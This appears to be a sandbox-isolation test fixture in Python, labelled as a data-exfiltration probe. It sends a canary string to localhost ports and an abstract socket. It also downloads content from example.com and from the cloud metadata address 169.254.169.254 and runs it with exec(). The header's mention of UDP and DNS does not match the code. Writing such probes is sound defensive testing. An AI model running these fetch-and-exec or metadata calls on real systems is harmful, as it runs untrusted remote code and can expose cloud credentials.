# ---
# note: sends the tests out over TCP, UDP, DNS and an abstract socket, and fetches answers
# known_from: data exfiltration
# harmful: it would reach the network
# ---
# %% plain +top
import socket
import urllib.request

for port in (22, 80, 443, 8888, 47923):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).send(b"canary-of-an-attacker")
    except OSError as error:
        print(error)
for address in ["http://example.com/answers", "http://169.254.169.254/latest/meta-data"]:
    try:
        exec(urllib.request.urlopen(address, timeout=1).read())
    except OSError as error:
        print(error)
try:
    abstract = socket.socket(socket.AF_UNIX)
    abstract.connect("\0canary-of-an-attacker")
except OSError as error:
    print(error)
